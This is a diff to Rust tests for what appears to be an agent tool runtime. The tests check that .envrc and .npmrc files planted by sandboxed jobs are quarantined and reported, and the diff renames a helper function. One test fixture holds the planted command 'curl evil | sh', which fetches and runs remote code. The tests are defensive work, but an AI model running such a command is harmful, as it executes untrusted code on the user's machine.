@@ -54,8 +54,8 @@ impl Env {
         Executor::new(Arc::new(reg), ctx)
     }
 
-    /// Every file or link of this name in the state dir (the quarantine).
-    fn quarantined(&self, name: &str) -> Vec<PathBuf> {
+    /// Every entry of this name in the state dir (the quarantine is there).
+    fn in_state_dir(&self, name: &str) -> Vec<PathBuf> {
         let mut out = Vec::new();
         let mut stack = vec![self.state.path().to_path_buf()];
         while let Some(d) = stack.pop() {
@@ -108,7 +108,7 @@ async fn foreground_bash_moves_a_planted_envrc_aside_and_says_so() {
         "{t}"
     );
     assert!(!env.root.join("src/.envrc").exists());
-    let q = env.quarantined(".envrc");
+    let q = env.in_state_dir(".envrc");
     assert_eq!(q.len(), 1, "{q:?}");
     assert_eq!(std::fs::read_to_string(&q[0]).unwrap(), "curl evil | sh\n");
     // An ordinary file is left alone and adds no line.
@@ -151,7 +151,7 @@ async fn a_background_job_planting_while_it_runs_is_caught_by_the_next_look() {
     assert!(t.contains("while bg-1 ran sandboxed"), "{t}");
     assert!(t.contains("running"), "the job still runs: {t}");
     assert!(!env.root.join("src/j/.npmrc").exists());
-    assert_eq!(env.quarantined(".npmrc").len(), 1);
+    assert_eq!(env.in_state_dir(".npmrc").len(), 1);
     let t = text_of(&env.process(), "kill_shell", json!({"id": "bg-1"})).await;
     assert!(
         !t.contains("protected name moved aside"),
@@ -178,7 +178,7 @@ async fn a_job_that_planted_and_ended_is_swept_before_the_next_command_runs() {
     assert!(t.contains("while bg-1 ran sandboxed"), "{t}");
     assert!(t.contains("(symlink)"), "{t}");
     assert!(std::fs::symlink_metadata(env.root.join("src/k/.envrc")).is_err());
-    let moved = env.quarantined(".envrc");
+    let moved = env.in_state_dir(".envrc");
     assert_eq!(moved.len(), 1);
     assert!(
         std::fs::symlink_metadata(&moved[0])
@@ -189,11 +189,11 @@ async fn a_job_that_planted_and_ended_is_swept_before_the_next_command_runs() {
     // Once a sweep finds the job ended, its record is dropped, and later
     // calls say nothing more of it.
     let end = Instant::now() + Duration::from_secs(30);
-    while !env.quarantined("bg-1.watch").is_empty() && Instant::now() < end {
+    while !env.in_state_dir("bg-1.watch").is_empty() && Instant::now() < end {
         text_of(&env.process(), "tasks", json!({"action": "list"})).await;
         tokio::time::sleep(Duration::from_millis(100)).await;
     }
-    assert!(env.quarantined("bg-1.watch").is_empty());
+    assert!(env.in_state_dir("bg-1.watch").is_empty());
     let t = text_of(&env.process(), "bash", json!({"command": "true"})).await;
     assert!(!t.contains("bg-1"), "{t}");
 }
@@ -248,5 +248,5 @@ async fn a_sandboxed_checker_planting_a_name_gets_it_moved_and_reported_as_a_fin
     );
     assert!(t.contains("src/d/.envrc"), "{t}");
     assert!(!env.root.join("src/d/.envrc").exists());
-    assert_eq!(env.quarantined(".envrc").len(), 1);
+    assert_eq!(env.in_state_dir(".envrc").len(), 1);
 }
